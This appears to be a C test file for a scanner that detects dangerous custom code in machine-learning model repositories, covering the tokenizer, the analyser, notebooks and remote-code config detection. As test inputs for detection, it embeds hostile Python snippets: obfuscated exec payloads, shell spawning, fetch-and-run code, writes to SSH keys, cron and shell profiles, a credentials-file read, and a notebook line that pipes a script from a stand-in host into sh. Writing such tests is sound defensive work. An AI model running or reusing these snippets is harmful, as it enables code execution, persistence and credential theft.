/*
 * test_pyscan.c - the Python tokenizer, the custom-code analyser, notebooks
 * and auto_map detection.
 *
 * Built twice:
 *  - in unit-tests: test_pyscan() checks the tokenizer and the analyser on
 *    small inline sources (one behaviour per check);
 *  - with -DPYSCAN_FIXTURE_RUNNER as `pycode-fixtures DIR`: the end-to-end
 *    driver for tests/fixtures/pycode until the core dispatches to the
 *    analyser itself. It reads DIR/expected.json (the format of
 *    tests/run_fixtures.py: per entry "must"/"must_not" lists of {type,
 *    severity, rule_id, description_contains} plus "location",
 *    "location_contains" and "details" (a subset of the finding's details)),
 *    scans each entry (a file, or a folder as a repository) the way the core
 *    will (content probe -> pyscan_file; JSON -> notebook_scan and
 *    remote_code_scan_json with the folder as root), and checks that the
 *    tokenizer agrees with Python's own tokenize on DIR/tokens/<f>.py
 *    (expected tokens in <f>.py.tokens, written by the generator).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

#include "unit.h"

#include "../../src/core/scan_ctx.h"
#include "../../src/repo/pyscan.h"
#include "../../src/repo/remote_code.h"

/* ---- helpers shared by both builds ---- */

#define MS_UNUSED __attribute__((unused))

typedef struct scan_env {
    ms_report *report;
    ms_limits limits;
    ms_budget budget;
    ms_scan_ctx ctx;
} scan_env;

static void env_init(scan_env *e, const char *location)
{
    memset(e, 0, sizeof(*e));
    e->report = ms_report_new("unit");
    ms_limits_default(&e->limits);
    clock_gettime(CLOCK_MONOTONIC, &e->budget.start);
    e->ctx.report = e->report;
    e->ctx.limits = &e->limits;
    e->ctx.location = location;
    e->ctx.budget = &e->budget;
}

static MS_UNUSED void env_free(scan_env *e)
{
    ms_report_free(e->report);
}

static MS_UNUSED const ms_finding *find(const ms_report *r, const char *rule, const char *location,
                              const char *resolved, const char *desc)
{
    for (size_t i = 0; i < r->nfindings; i++) {
        const ms_finding *f = &r->findings[i];
        if (rule && strcmp(f->rule_id, rule) != 0)
            continue;
        if (location && strcmp(f->location, location) != 0)
            continue;
        if (resolved) {
            const char *res = json_string_value(json_object_get(f->details, "resolved"));
            if (!res || strcmp(res, resolved) != 0)
                continue;
        }
        if (desc && !strstr(f->description, desc))
            continue;
        return f;
    }
    return NULL;
}

static MS_UNUSED size_t count_rule(const ms_report *r, const char *prefix)
{
    size_t n = 0;
    for (size_t i = 0; i < r->nfindings; i++)
        if (strncmp(r->findings[i].rule_id, prefix, strlen(prefix)) == 0)
            n++;
    return n;
}

static MS_UNUSED void dump(const ms_report *r)
{
    for (size_t i = 0; i < r->nfindings; i++)
        fprintf(stderr, "    got: %s %s %s | %s\n", ms_severity_name(r->findings[i].severity),
                r->findings[i].rule_id, r->findings[i].location, r->findings[i].description);
}

#ifndef PYSCAN_FIXTURE_RUNNER

/* ---- tokenizer ---- */

typedef struct tok_view {
    py_tok_type type;
    char text[64];
    uint32_t line;
    uint8_t flags;
} tok_view;

static size_t lex_all(const char *src, tok_view *out, size_t max)
{
    py_lexer lx;
    py_lexer_init(&lx, (const uint8_t *)src, 0, strlen(src), 1);
    size_t n = 0;
    for (;;) {
        py_token t;
        py_lexer_next(&lx, &t);
        if (t.type == PY_TOK_END || n == max)
            break;
        out[n].type = t.type;
        out[n].line = t.line;
        out[n].flags = t.str_flags;
        size_t len = t.end - t.start;
        if (len > 63)
            len = 63;
        memcpy(out[n].text, src + t.start, len);
        out[n].text[len] = '\0';
        n++;
    }
    return n;
}

static void test_lexer(void)
{
    tok_view t[64];
    size_t n;

    /* string prefixes, raw backslash-quote, triple quotes spanning lines */
    n = lex_all("a = rb'\\\\' + Rb\"x\\\"\" + '''x\ny''' + r\"\\\"\"\n", t, 64);
    CHECK(n == 10);
    CHECK_STR(t[2].text, "rb'\\\\'");
    CHECK(t[2].type == PY_TOK_STRING && (t[2].flags & PY_STR_RAW) && (t[2].flags & PY_STR_BYTES));
    CHECK_STR(t[4].text, "Rb\"x\\\"\"");
    CHECK(t[6].type == PY_TOK_STRING && (t[6].flags & PY_STR_TRIPLE));
    CHECK_STR(t[8].text, "r\"\\\"\"");
    CHECK(t[9].type == PY_TOK_NEWLINE && t[8].line == 2);

    /* f-strings: nested fields, format specs, nested quotes (PEP 701) */
    n = lex_all("f\"{x!r:>{w}} {'a' if y else \"b\"} {d[\"k\"]}\" + 1\n", t, 64);
    CHECK(n == 4);
    CHECK(t[0].type == PY_TOK_STRING && (t[0].flags & PY_STR_FORMAT));
    CHECK_STR(t[1].text, "+");

    /* brackets join lines, a backslash continues one, comments vanish */
    n = lex_all("x = (1,\n  2)  # c\ny = 1 + \\\n  2\n", t, 64);
    CHECK(n == 14);
    CHECK(t[7].type == PY_TOK_NEWLINE);
    CHECK(t[8].line == 3);
    CHECK(t[12].line == 4);
    CHECK(t[13].type == PY_TOK_NEWLINE);

    /* numbers and operators */
    n = lex_all("0x1e+5 1_000.5e-3j ... **= -> := .5\n", t, 64);
    CHECK(n == 10);
    CHECK_STR(t[0].text, "0x1e");
    CHECK_STR(t[1].text, "+");
    CHECK_STR(t[3].text, "1_000.5e-3j");
    CHECK_STR(t[4].text, "...");
    CHECK_STR(t[5].text, "**=");
    CHECK_STR(t[6].text, "->");
    CHECK_STR(t[7].text, ":=");
    CHECK_STR(t[8].text, ".5");

    /* unterminated strings and stray characters are flagged, not fatal */
    n = lex_all("s = 'abc\nt = `x` $\n", t, 64);
    CHECK(t[2].type == PY_TOK_STRING && (t[2].flags & PY_STR_UNTERMINATED));
    size_t errors = 0;
    for (size_t i = 0; i < n; i++)
        errors += t[i].type == PY_TOK_ERROR;
    CHECK(errors == 3);

    /* an unterminated triple-quoted string runs to the end */
    n = lex_all("x = '''abc\n\ndef f(): pass\n", t, 64);
    CHECK(n == 4 && (t[2].flags & PY_STR_UNTERMINATED));

    /* 250 nested brackets: CPython's limit is 200 */
    char deep[600];
    memset(deep, '(', 250);
    memset(deep + 250, ')', 250);
    memcpy(deep + 500, "\n", 2);
    py_lexer lx;
    py_lexer_init(&lx, (const uint8_t *)deep, 0, strlen(deep), 1);
    unsigned errs = 0, guard = 0;
    for (py_token tk; guard < 1000; guard++) {
        py_lexer_next(&lx, &tk);
        if (tk.type == PY_TOK_END)
            break;
        errs += tk.type == PY_TOK_ERROR;
    }
    CHECK(errs > 0 && guard < 1000);
}

/* ---- analyser ---- */

static scan_env scan_py(const char *src)
{
    scan_env e;
    env_init(&e, "m.py");
    ms_status st = pyscan_file(&e.ctx, (const uint8_t *)src, strlen(src));
    CHECK(st == MS_OK);
    return e;
}

#define EXPECT(src, rule, loc, resolved)                                                         \
    do {                                                                                         \
        scan_env e_ = scan_py(src);                                                              \
        const ms_finding *f_ = find(e_.report, rule, loc, resolved, NULL);                       \
        CHECK(f_ != NULL);                                                                       \
        if (!f_) {                                                                               \
            fprintf(stderr, "  for: %s\n", src);                                                 \
            dump(e_.report);                                                                     \
        }                                                                                        \
        env_free(&e_);                                                                           \
    } while (0)

#define EXPECT_CLEAN(src)                                                                        \
    do {                                                                                         \
        scan_env e_ = scan_py(src);                                                              \
        CHECK(e_.report->nfindings == 0);                                                        \
        if (e_.report->nfindings) {                                                              \
            fprintf(stderr, "  for: %s\n", src);                                                 \
            dump(e_.report);                                                                     \
        }                                                                                        \
        env_free(&e_);                                                                           \
    } while (0)

static const char *const D = "CUSTOM-CODE-DANGEROUS";
static const char *const R = "CUSTOM-CODE-RISKY";

static void test_analyser(void)
{
    /* aliases and from-imports */
    EXPECT("import os as o\no.system('id')\n", D, "m.py:2", "os.system");
    EXPECT("from subprocess import Popen as P\nP(['ls'])\n", D, "m.py:2", "subprocess.Popen");
    EXPECT("from subprocess import Popen as P\n", D, "m.py:1", "subprocess.Popen");
    EXPECT("import os.path\nos.popen('ls')\n", D, "m.py:2", "os.popen");
    EXPECT("from os import *\nsystem('id')\n", D, "m.py:2", "os.system");
    EXPECT("import posix\nposix.execv('/bin/sh', [])\n", D, "m.py:2", "os.execv");
    EXPECT("import os\nx = os\nx.spawnlp(0, 'sh')\n", D, "m.py:3", "os.spawnlp");
    EXPECT("import subprocess\nclass M:\n    def __init__(self):\n        self.r = subprocess.run\n"
           "    def go(self):\n        self.r(['id'])\n",
           D, "m.py:6", "subprocess.run");
    /* getattr, __import__, importlib, builtins */
    EXPECT("import os\ns = getattr(os, 'sys' + 'tem')\ns('id')\n", D, "m.py:3", "os.system");
    EXPECT("import os\ngetattr(os, name)('id')\n", D, "m.py:2", NULL);
    EXPECT("__import__('os').system('id')\n", D, "m.py:1", "os.system");
    EXPECT("__import__('os').system('id')\n", D, "m.py:1", "builtins.__import__");
    EXPECT("import importlib\nimportlib.import_module('o' + 's').system('x')\n", D, "m.py:2",
           "os.system");
    EXPECT("import importlib\nm = importlib.import_module(name)\n", D, "m.py:2",
           "importlib.import_module");
    EXPECT("__builtins__['ev' + 'al']('1')\n", D, "m.py:1", "builtins.eval");
    EXPECT("getattr(__builtins__, 'ex' 'ec')('x=1')\n", D, "m.py:1", "builtins.exec");
    EXPECT("import builtins\nvars(builtins)['exec']('x')\n", D, "m.py:2", "builtins.exec");
    EXPECT("globals()['__builtins__']\n().__class__.__subclasses__()\n", D, "m.py:2", NULL);
    EXPECT("import sys\nsys.modules['os'].system('id')\n", D, "m.py:2", "os.system");
    EXPECT("import operator, os\noperator.attrgetter('system')(os)('id')\n", D, "m.py:2",
           "os.system");
    EXPECT("\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('print(1)')\n", D, "m.py:1",
           "builtins.exec");
    /* decoded payloads: exec of base64 is analysed as Python */
    EXPECT("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", D,
           "m.py:2", "builtins.exec");
    EXPECT("import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", D,
           "m.py:2", "os.system");
    EXPECT("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n", D,
           "m.py:2", "os.system");
    EXPECT("exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d282769642729').decode())\n",
           D, "m.py:1", "os.system");
    EXPECT("exec(''.join(map(chr, [105,109,112,111,114,116,32,112,116,121,59,112,116,121,46,115,"
           "112,97,119,110,40,39,115,104,39,41])))\n",
           D, "m.py:1", "pty.spawn");
    EXPECT("exec(\")'di'(metsys.so ;so tropmi\"[::-1])\n", D, "m.py:1", "os.system");
    /* network */
    EXPECT("import socket\ns = socket.socket()\n", D, "m.py:2", "socket.socket");
    EXPECT("import requests\nexec(requests.get(u).text)\n", D, "m.py:2", "requests.get");
    EXPECT("import requests\nexec(requests.get(u).text)\n", D, "m.py:2", "builtins.exec");
    EXPECT("from urllib.request import urlopen\nurlopen(u).read()\n", D, "m.py:2",
           "urllib.request.urlopen");
    EXPECT("from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'f')\n",
           "CUSTOM-CODE-NETWORK", "m.py:2", "huggingface_hub.hf_hub_download");
    EXPECT("import torch\nm = torch.hub.load('org/repo', 'model')\n", R, "m.py:2",
           "torch.hub.load");
    EXPECT("from transformers import AutoModel\nAutoModel.from_pretrained('x/y', "
           "trust_remote_code=True)\n",
           R, "m.py:2", "trust_remote_code=True");
    /* deserialisation */
    EXPECT("import pickle\npickle.loads(b'cos\\nsystem\\n.')\n", D, "m.py:2", "pickle.loads");
    EXPECT("import torch\nsd = torch.load(path, map_location='cpu')\n", D, "m.py:2", "torch.load");
    EXPECT("import numpy as np\nnp.load(p, allow_pickle=True)\n", D, "m.py:2", "numpy.load");
    EXPECT("import yaml\nyaml.load(open(p))\n", D, "m.py:2", "yaml.load");
    EXPECT("import ctypes\nctypes.CDLL('libc.so.6')\n", D, "m.py:2", "ctypes.CDLL");
    EXPECT("import marshal\nexec(marshal.loads(data))\n", D, "m.py:2", "marshal.loads");
    /* files outside the repository */
    EXPECT("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write(x)\n", R, "m.py:2",
           "builtins.open");
    EXPECT("open('/etc/cron.d/x', mode='w')\n", R, "m.py:1", "builtins.open");
    EXPECT("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)\n",
           R, "m.py:2", "pathlib.Path().write_text");
    EXPECT("import os\nopen(f\"{os.environ['HOME']}/.profile\", 'a')\n", R, "m.py:2",
           "builtins.open");
    EXPECT("import shutil\nshutil.rmtree('../../')\n", R, "m.py:2", "shutil.rmtree");
    EXPECT("import os\nos.chmod(p, 0o777)\n", R, "m.py:2", "os.chmod");
    EXPECT("open('~/.aws/credentials').read()\n", R, "m.py:1", "builtins.open");
    /* interpreter state */
    EXPECT("import sys\nsys.modules['torch'] = fake\n", D, "m.py:2", "sys.modules");
    EXPECT("import builtins\nbuiltins.open = my_open\n", D, "m.py:2", "builtins.open");
    EXPECT("import torch.nn.functional as F\ndef my_sdpa(*a):\n    pass\n"
           "F.scaled_dot_product_attention = my_sdpa\n",
           R, "m.py:4", "torch.nn.functional.scaled_dot_product_attention");
    /* inside f-strings, lambdas, comprehensions, decorators, defaults */
    EXPECT("import os\nx = f\"{os.system('id')}\"\n", D, "m.py:2", "os.system");
    EXPECT("import os\nf = lambda c: os.popen(c)\n", D, "m.py:2", "os.popen");
    EXPECT("import os\n[getattr(m, 'system')('id') for m in (os,)]\n", D, "m.py:2", "os.system");
    EXPECT("import os\ndef f(x=os.system('id')):\n    pass\n", D, "m.py:2", "os.system");
    EXPECT("import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n", D,
           "m.py:2", "os.system");
    EXPECT("import os\nif True: os.system('a'); os.system('b')\n", D, "m.py:2", "os.system");
    /* a file Python refuses */
    EXPECT("x = 'abc\nimport os\nos.system('id')\n", "CUSTOM-CODE-MALFORMED", "m.py:1", NULL);
    EXPECT("x = 'abc\nimport os\nos.system('id')\n", D, "m.py:3", "os.system");

    /* ordinary modeling code: nothing */
    EXPECT_CLEAN("import math\nimport torch\nimport torch.nn as nn\nimport torch.nn.functional as F\n"
                 "from typing import Optional\nfrom transformers import PreTrainedModel\n"
                 "class M(PreTrainedModel):\n    def __init__(self, config):\n"
                 "        super().__init__(config)\n        self.l = nn.Linear(4, 4)\n"
                 "        act = getattr(F, config.act)\n        self.eval()\n"
                 "    def forward(self, x: Optional[torch.Tensor] = None):\n"
                 "        y = F.scaled_dot_product_attention(x, x, x)\n"
                 "        return torch.compile(self.l)(y) * math.sqrt(4)\n");
    EXPECT_CLEAN("import os, json\ndef save_vocabulary(self, save_directory, prefix=None):\n"
                 "    path = os.path.join(save_directory, 'vocab.json')\n"
                 "    with open(path, 'w', encoding='utf-8') as f:\n        json.dump(v, f)\n"
                 "    token = os.environ.get('HF_TOKEN')\n    os.makedirs(save_directory, exist_ok=True)\n");
    EXPECT_CLEAN("import torch\nsd = torch.load(p, map_location='cpu', weights_only=True)\n"
                 "import numpy as np\na = np.load(p)\nb = np.load(p, allow_pickle=False)\n"
                 "torch.backends.cudnn.benchmark = True\nimport importlib.util\n"
                 "ok = importlib.util.find_spec('flash_attn') is not None\n"
                 "import yaml\nyaml.load(s, Loader=yaml.SafeLoader)\nimport re\nr = re.compile('x')\n");
    EXPECT_CLEAN("from subprocess import PIPE\nimport requests\ntry:\n    pass\n"
                 "except requests.exceptions.HTTPError:\n    pass\n");
    EXPECT_CLEAN("match command:\n    case [x, y]:\n        pass\n    case Point(x=0) if x > 1:\n"
                 "        pass\ntype Alias = list[int]\n");
}

static void test_probe(void)
{
    static const char *const py[] = {
        "import torch\n\nclass A:\n    pass\n",
        "#!/usr/bin/env python3\nprint('x')\n",
        "# -*- coding: utf-8 -*-\nx = 1\n",
        ("# Copyright 2024 The Authors.\n\"\"\"Model.\"\"\"\nfrom typing import Optional\n\n"
         "def f(x):\n    return x\n"),
        "__import__('os').system('id')\n",
        "@dataclass\nclass C:\n    x: int = 0\n",
        "try:\n    import torch\nexcept ImportError:\n    torch = None\n",
        "x = f\"{__import__('os').system('id')}\"\n",
    };
    static const char *const not_py[] = {
        ("# Model card\n\nThis model is a fine-tuned version of bert.\n\n```python\nimport torch\n"
         "from transformers import AutoModel\n```\n"),
        "---\nlicense: mit\n---\n# Title\nimport torch\n",
        "{\"architectures\": [\"A\"], \"auto_map\": {}}\n",
        "[{\"idx\": 0}]\n",
        "torch>=2.0\nnumpy==1.26.4\ntransformers\n",
        "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "Hello world, this is just a text file.\nfrom the paper import nothing\n",
        "",
    };
    for (size_t i = 0; i < sizeof(py) / sizeof(py[0]); i++) {
        bool ok = pyscan_probe((const uint8_t *)py[i], strlen(py[i]));
        CHECK(ok);
        if (!ok)
            fprintf(stderr, "  not probed as Python: %s\n", py[i]);
    }
    for (size_t i = 0; i < sizeof(not_py) / sizeof(not_py[0]); i++) {
        bool ok = pyscan_probe((const uint8_t *)not_py[i], strlen(not_py[i]));
        CHECK(!ok);
        if (ok)
            fprintf(stderr, "  probed as Python: %s\n", not_py[i]);
    }
}

static void test_notebook(void)
{
    const char *nb =
        "{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}, \"cells\": ["
        "{\"cell_type\": \"markdown\", \"metadata\": {}, \"source\": [\"# Demo\"]},"
        "{\"cell_type\": \"code\", \"metadata\": {}, \"outputs\": [], \"execution_count\": null,"
        " \"source\": [\"!curl -s http://x.example/i.sh | sh\\n\", \"import torch\"]},"
        "{\"cell_type\": \"code\", \"metadata\": {}, \"outputs\": [], \"execution_count\": null,"
        " \"source\": \"x = 1\\n%time y = 2\\nimport os\\nos.system('id')\\n\"}]}";
    json_t *doc = json_loads(nb, 0, NULL);
    CHECK(doc && notebook_probe_json(doc));
    scan_env e;
    env_init(&e, "nb.ipynb");
    CHECK(notebook_scan(&e.ctx, doc) == MS_OK);
    CHECK(find(e.report, D, "nb.ipynb:cell2:line1", NULL, "shell") != NULL);
    CHECK(find(e.report, D, "nb.ipynb:cell3:line4", "os.system", NULL) != NULL);
    CHECK(count_rule(e.report, "CUSTOM-CODE-MALFORMED") == 0);
    if (e.report->nfindings != 2)
        dump(e.report);
    CHECK(e.report->nfindings == 2);
    env_free(&e);
    json_decref(doc);

    json_t *bad = json_loads("{\"nbformat\": 4, \"cells\": [1, {\"cell_type\": \"code\", "
                             "\"source\": 5}]}",
                             0, NULL);
    env_init(&e, "bad.ipynb");
    CHECK(notebook_scan(&e.ctx, bad) == MS_OK);
    CHECK(find(e.report, "CUSTOM-CODE-MALFORMED", "bad.ipynb", NULL, NULL) != NULL);
    env_free(&e);
    json_decref(bad);
}

static void test_remote_code(void)
{
    struct {
        const char *json, *rule, *desc;
        size_t count;
    } cases[] = {
        {"{\"auto_map\": {\"AutoConfig\": \"configuration_x.XConfig\", \"AutoModel\": "
         "\"modeling_x.XModel\"}}",
         "REMOTE-CODE-REQUIRED", "modeling_x.py", 1},
        {"{\"auto_map\": {\"AutoTokenizer\": [\"tokenization_x.XTok\", null]}}",
         "REMOTE-CODE-REQUIRED", "tokenization_x.XTok", 1},
        {"{\"auto_map\": {\"AutoModel\": \"evil/repo--modeling_x.XModel\"}}",
         "REMOTE-CODE-REQUIRED", "ANOTHER repository", 1},
        {"{\"_attn_implementation_internal\": \"kernels-community/flash-attn\"}",
         "REMOTE-CODE-REQUIRED", "CVE-2026-4372", 1},
        {"{\"_attn_implementation_internal\": \"sdpa\", \"attn_implementation\": "
         "\"flash_attention_2\"}",
         NULL, NULL, 0},
        {"{\"model_kwargs\": {\"trust_remote_code\": true}}", "REMOTE-CODE-REQUIRED",
         "model_kwargs.trust_remote_code", 1},
        {"{\"trust_remote_code\": false}", NULL, NULL, 0},
        {"{\"custom_pipelines\": {\"text-classification\": {\"impl\": \"pipe.MyPipe\", \"pt\": "
         "[\"AutoModel\"]}}}",
         "REMOTE-CODE-REQUIRED", "pipe.MyPipe", 1},
        {"{\"_class_name\": \"StableDiffusionPipeline\", \"_diffusers_version\": \"0.30.0\", "
         "\"unet\": [\"diffusers\", \"UNet2DConditionModel\"], \"scheduler\": [\"my_sched\", "
         "\"S\"]}",
         "REMOTE-CODE-REQUIRED", "scheduler/my_sched.py", 1},
        {"[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": "
         "\"sentence_transformers.models.Transformer\"}]",
         NULL, NULL, 0},
        {"{\"architectures\": [\"BertModel\"], \"model_type\": \"bert\"}", NULL, NULL, 0},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        json_t *doc = json_loads(cases[i].json, JSON_DECODE_ANY, NULL);
        CHECK(doc != NULL);
        scan_env e;
        env_init(&e, "config.json");
        CHECK(remote_code_scan_json(&e.ctx, doc, NULL) == MS_OK);
        bool ok = e.report->nfindings == cases[i].count &&
                  (!cases[i].rule || find(e.report, cases[i].rule, "config.json", NULL,
                                          cases[i].desc) != NULL);
        CHECK(ok);
        if (!ok) {
            fprintf(stderr, "  for: %s\n", cases[i].json);
            dump(e.report);
        }
        env_free(&e);
        json_decref(doc);
    }
}

void test_pyscan(void)
{
    test_lexer();
    test_analyser();
    test_probe();
    test_notebook();
    test_remote_code();
}

#else /* PYSCAN_FIXTURE_RUNNER */

int unit_passed, unit_failed;

static uint8_t *read_file(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return NULL;
    uint8_t *buf = NULL;
    size_t n = 0, cap = 0;
    for (;;) {
        if (n == cap) {
            cap = cap ? cap * 2 : 65536;
            uint8_t *nb = realloc(buf, cap + 1);
            if (!nb) {
                free(buf);
                fclose(f);
                return NULL;
            }
            buf = nb;
        }
        size_t k = fread(buf + n, 1, cap - n, f);
        if (k == 0)
            break;
        n += k;
    }
    fclose(f);
    if (!buf)
        buf = malloc(1);
    if (buf)
        buf[n] = 0;
    *len = n;
    return buf;
}

static bool ends_with(const char *s, const char *suf)
{
    size_t a = strlen(s), b = strlen(suf);
    return a >= b && strcmp(s + a - b, suf) == 0;
}

/* Scans one file the way the core will; returns false on a probe mismatch. */
static bool scan_one(ms_report *report, const char *root, const char *rel, char *why, size_t whysz)
{
    char path[8192];
    snprintf(path, sizeof(path), "%s/%s", root, rel);
    size_t len;
    uint8_t *data = read_file(path, &len);
    if (!data) {
        snprintf(why, whysz, "cannot read %s", path);
        return false;
    }
    scan_env e;
    env_init(&e, rel);
    ms_report_free(e.report);
    e.report = report;
    e.ctx.report = report;
    bool ok = true;
    bool probed = pyscan_probe(data, len);
    if (ends_with(rel, ".py") != probed) {
        snprintf(why, whysz, "content probe says %s for %s", probed ? "Python" : "not Python", rel);
        ok = false;
    }
    if (probed) {
        if (pyscan_file(&e.ctx, data, len) == MS_INTERNAL)
            ok = false;
    } else {
        json_t *doc = json_loadb((const char *)data, len, JSON_DECODE_ANY, NULL);
        if (doc) {
            if (notebook_probe_json(doc) && notebook_scan(&e.ctx, doc) == MS_INTERNAL)
                ok = false;
            if (remote_code_scan_json(&e.ctx, doc, root) == MS_INTERNAL)
                ok = false;
            json_decref(doc);
        }
    }
    free(data);
    return ok;
}

static int name_cmp(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static bool scan_tree(ms_report *report, const char *root, const char *prefix, char *why,
                      size_t whysz)
{
    char dirpath[4096];
    snprintf(dirpath, sizeof(dirpath), "%s/%s", root, prefix);
    DIR *d = opendir(dirpath);
    if (!d)
        return false;
    char **names = NULL;
    size_t n = 0;
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char **nn = realloc(names, (n + 1) * sizeof(*nn));
        if (!nn)
            break;
        names = nn;
        names[n++] = strdup(de->d_name);
    }
    closedir(d);
    qsort(names, n, sizeof(*names), name_cmp);
    bool ok = true;
    for (size_t i = 0; i < n; i++) {
        char rel[4096];
        snprintf(rel, sizeof(rel), "%s%s", prefix, names[i]);
        char full[8192];
        snprintf(full, sizeof(full), "%s/%s", root, rel);
        struct stat st;
        if (lstat(full, &st) == 0 && S_ISDIR(st.st_mode)) {
            char sub[4100];
            snprintf(sub, sizeof(sub), "%s/", rel);
            ok &= scan_tree(report, root, sub, why, whysz);
        } else if (lstat(full, &st) == 0 && S_ISREG(st.st_mode)) {
            ok &= scan_one(report, root, rel, why, whysz);
        }
        free(names[i]);
    }
    free(names);
    return ok;
}

static bool details_match(const json_t *have, const json_t *want)
{
    const char *k;
    const json_t *v;
    json_object_foreach((json_t *)want, k, v) {
        if (!json_equal(json_object_get(have, k), v))
            return false;
    }
    return true;
}

static bool matches(const ms_finding *f, const json_t *want)
{
    static const char *const keys[] = {"type", "rule_id", NULL};
    const char *have[] = {f->type, f->rule_id};
    for (int i = 0; keys[i]; i++) {
        const char *w = json_string_value(json_object_get(want, keys[i]));
        if (w && strcmp(w, have[i]) != 0)
            return false;
    }
    const char *sev = json_string_value(json_object_get(want, "severity"));
    if (sev && strcmp(sev, ms_severity_name(f->severity)) != 0)
        return false;
    const char *dc = json_string_value(json_object_get(want, "description_contains"));
    if (dc && !strstr(f->description, dc))
        return false;
    const char *loc = json_string_value(json_object_get(want, "location"));
    if (loc && strcmp(loc, f->location) != 0)
        return false;
    const char *lc = json_string_value(json_object_get(want, "location_contains"));
    if (lc && !strstr(f->location, lc))
        return false;
    const json_t *det = json_object_get(want, "details");
    if (det && !details_match(f->details, det))
        return false;
    return true;
}

/* tokens as Python's tokenize prints them: "LINE TYPE TEXT" per token */
static bool check_tokens(const char *dir)
{
    char tdir[4096];
    snprintf(tdir, sizeof(tdir), "%s/tokens", dir);
    DIR *d = opendir(tdir);
    if (!d)
        return true;
    struct dirent *de;
    bool all = true;
    unsigned files = 0;
    while ((de = readdir(d))) {
        if (!ends_with(de->d_name, ".py"))
            continue;
        char src[8192], exp[8192];
        snprintf(src, sizeof(src), "%s/%s", tdir, de->d_name);
        snprintf(exp, sizeof(exp), "%s/%s.tokens", tdir, de->d_name);
        size_t slen, elen;
        uint8_t *s = read_file(src, &slen), *e = read_file(exp, &elen);
        if (!s || !e) {
            free(s);
            free(e);
            printf("FAIL tokens/%s: missing expected tokens\n", de->d_name);
            all = false;
            continue;
        }
        files++;
        py_lexer lx;
        py_lexer_init(&lx, s, 0, slen, 1);
        char *line = (char *)e, *save = NULL;
        bool ok = true;
        unsigned count = 0;
        for (char *want = strtok_r(line, "\n", &save); want; want = strtok_r(NULL, "\n", &save)) {
            py_token t;
            py_lexer_next(&lx, &t);
            while (t.type == PY_TOK_NEWLINE && t.start == t.end && t.start == slen)
                py_lexer_next(&lx, &t); /* the final NEWLINE tokenize omits after a newline */
            static const char *const names[] = {"END", "NAME", "NUMBER", "STRING",
                                                "OP", "NEWLINE", "ERRORTOKEN"};
            char got[8192];
            size_t tl = t.end - t.start;
            if (t.type == PY_TOK_NEWLINE)
                tl = 0;
            snprintf(got, sizeof(got), "%u %s %.*s", t.line, names[t.type], (int)tl,
                     (const char *)s + t.start);
            /* tokenize writes the text with newlines escaped */
            char esc[8192];
            size_t o = 0;
            for (size_t i = 0; got[i] && o + 3 < sizeof(esc); i++) {
                if (got[i] == '\n') {
                    esc[o++] = '\\';
                    esc[o++] = 'n';
                } else {
                    esc[o++] = got[i];
                }
            }
            esc[o] = '\0';
            count++;
            if (strcmp(esc, want) != 0) {
                printf("FAIL tokens/%s: token %u: want '%s' got '%s'\n", de->d_name, count, want,
                       esc);
                ok = false;
                break;
            }
        }
        if (ok) {
            py_token t;
            py_lexer_next(&lx, &t);
            while (t.type == PY_TOK_NEWLINE)
                py_lexer_next(&lx, &t);
            if (t.type != PY_TOK_END) {
                printf("FAIL tokens/%s: more tokens than tokenize found\n", de->d_name);
                ok = false;
            }
        }
        if (ok) {
            unit_passed++;
            printf("ok   tokens/%s (%u tokens)\n", de->d_name, count);
        } else {
            unit_failed++;
            all = false;
        }
        free(s);
        free(e);
    }
    closedir(d);
    if (files == 0) {
        printf("FAIL tokens: no token fixtures\n");
        unit_failed++;
        return false;
    }
    return all;
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s FIXTURE_DIR\n", argv[0]);
        return 2;
    }
    const char *dir = argv[1];
    char mpath[4096];
    snprintf(mpath, sizeof(mpath), "%s/expected.json", dir);
    json_error_t jerr;
    json_t *manifest = json_load_file(mpath, 0, &jerr);
    if (!manifest) {
        fprintf(stderr, "cannot read %s: %s\n", mpath, jerr.text);
        return 2;
    }
    const char *name;
    const json_t *c;
    json_object_foreach(manifest, name, c) {
        char full[4096];
        snprintf(full, sizeof(full), "%s/%s", dir, name);
        struct stat st;
        ms_report *report = ms_report_new(full);
        char why[9000] = "";
        bool ok = report != NULL;
        if (ok && stat(full, &st) == 0 && S_ISDIR(st.st_mode)) {
            ok = scan_tree(report, full, "", why, sizeof(why));
        } else if (ok) {
            char root[4096];
            snprintf(root, sizeof(root), "%s", full);
            char *slash = strrchr(root, '/');
            *slash = '\0';
            ok = scan_one(report, root, slash + 1, why, sizeof(why));
        }
        if (ok)
            ms_report_finish(report);
        size_t i;
        const json_t *want;
        bool good = ok;
        if (!ok)
            printf("FAIL %s: %s\n", name, why);
        json_array_foreach(json_object_get(c, "must"), i, want) {
            bool hit = false;
            for (size_t k = 0; report && k < report->nfindings; k++)
                hit |= matches(&report->findings[k], want);
            if (!hit) {
                char *w = json_dumps(want, JSON_COMPACT);
                printf("FAIL %s: missing %s\n", name, w);
                free(w);
                good = false;
            }
        }
        json_array_foreach(json_object_get(c, "must_not"), i, want) {
            for (size_t k = 0; report && k < report->nfindings; k++)
                if (matches(&report->findings[k], want)) {
                    char *w = json_dumps(want, JSON_COMPACT);
                    printf("FAIL %s: unexpected %s: %s @ %s: %.200s\n", name, w,
